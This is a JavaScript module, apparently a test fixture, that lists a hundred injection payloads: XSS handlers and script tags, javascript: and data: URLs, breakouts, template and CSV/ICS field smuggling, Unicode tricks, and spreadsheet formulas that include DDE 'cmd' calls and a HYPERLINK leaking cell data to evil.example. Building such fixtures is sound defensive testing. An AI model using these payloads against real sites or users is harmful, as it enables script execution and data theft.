// A hundred texts that want to be something else: markup, addresses, formulas, the end of what they stand in. All made up here; each calls `ran` where it runs.

const call = 'ran(1)';
const HANDLERS = [
	`<img src=x onerror=${call}>`, `<img src="x" onerror="${call}">`, `<img src=x onerror=${call}//`, `<IMG SRC=x OnErRoR=${call}>`, `<img/src=x/onerror=${call}>`, `<img src=x onerror\n=\n${call}>`,
	`<svg onload=${call}>`, `<svg/onload=${call}>`, `<svg><g onload=${call}></g></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set attributeName=onmouseover to=${call}>`,
	`<body onload=${call}>`, `<input autofocus onfocus=${call}>`, `<details open ontoggle=${call}>`, `<video src=x onerror=${call}>`, `<audio src=x onerror=${call}>`, `<video><source onerror=${call}></video>`,
	`<object data=x onerror=${call}>`, `<div style="animation-name:x" onanimationstart=${call}>`, `<select autofocus onfocus=${call}>`, `<a href=x onclick=${call} autofocus>press</a>`, `<marquee onstart=${call}>`,
	`<math><mtext onclick=${call}>`, `<xss onpointerenter=${call} style=display:block>`, `<button popovertarget=x onbeforetoggle=${call}>`,
];
const SCRIPTS = [
	`<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<script src=data:text/javascript,${call}></script>`, `<script type=module>${call}</script>`, `<svg><script>${call}</script></svg>`,
	`<svg><script href="data:text/javascript,${call}"/></svg>`, `<script\u00a0>${call}</script>`, `</script><script>${call}</script>`, `<!--><script>${call}</script>-->`, `<![CDATA[<script>${call}</script>]]>`, `]]><script>${call}</script>`,
	`<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<iframe src="javascript:parent.${call}"></iframe>`, `<embed src="data:text/html,<script>${call}</script>">`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<base href="javascript:/a/-${call}//">`,
	`<link rel=stylesheet href="data:text/css,*{display:none}">`, `<style>*{display:none}</style>`, `<style>@import 'data:text/css,*{display:none}';</style>`, `<template><script>${call}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
	`<form action="javascript:${call}"><button autofocus>go</button></form>`, `<button formaction=javascript:${call}>go</button>`, `<isindex action=javascript:${call}>`,
];
const ADDRESSES = [
	`javascript:${call}`, `JaVaScRiPt:${call}`, ` javascript:${call}`, `java\nscript:${call}`, `java\tscript:${call}`, `\u0001javascript:${call}`, `javascript&colon;${call}`, `&#106;avascript:${call}`, `javascript://example.org/%0A${call}`, `vbscript:${call}`,
	`data:text/html,<script>${call}</script>`, `data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`, `blob:https://example.org/x`, `file:///etc/passwd`, `view-source:javascript:${call}`,
	`<a href="javascript:${call}">press</a>`, `<a href="data:text/html,x" autofocus>press</a>`, `<a href=" &#1; javascript:${call}">press</a>`, `<svg><a href="javascript:${call}"><text>press</text></a></svg>`,
];
const BREAKOUTS = [
	`"><img src=x onerror=${call}>`, `'><img src=x onerror=${call}>`, `" onmouseover=${call} autofocus onfocus=${call} x="`, `' onfocus=${call} autofocus x='`, `</title><script>${call}</script>`, `</textarea><img src=x onerror=${call}>`, `</li></ol><script>${call}</script>`,
	`-->\n<img src=x onerror=${call}>`, `\\u003cimg src=x onerror=${call}\\u003e`, `&lt;img src=x onerror=${call}&gt;`, `&amp;lt;img src=x onerror=${call}&amp;gt;`, `{{constructor.constructor('${call}')()}}`, `\${${call}}`, `#{${call}}`, `__proto__`,
	`x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:smuggled`, `x","smuggled`, `x\n"2020-01-01","smuggled"`,
];
const FORMULAS = [`=1+1`, `=HYPERLINK("https://evil.example/?x="&A1,"press")`, `+1+1`, `-1+cmd|' /C calc'!A0`, `@SUM(A1:A9)`, `\t=1+1`, `=cmd|'/C calc'!A0`];
const LETTERS = ['\u202eesrever\u202c back', '\u2066isolated\u2069 words', '\u200b\u200d\ufeffnothing seen', '\u0000\u0007control', `${'\u0301'.repeat(300)}stacked`];

/** Exactly a hundred. */
export const PAYLOADS = [...HANDLERS, ...SCRIPTS, ...ADDRESSES, ...BREAKOUTS, ...FORMULAS, ...LETTERS];

/** The words before a payload, by which an entry is known again: payloads that need the beginning of a field have none. */
export const worded = (payload, number) => (ADDRESSES.includes(payload) || FORMULAS.includes(payload) ? payload : `Entry ${number} ${payload}`);
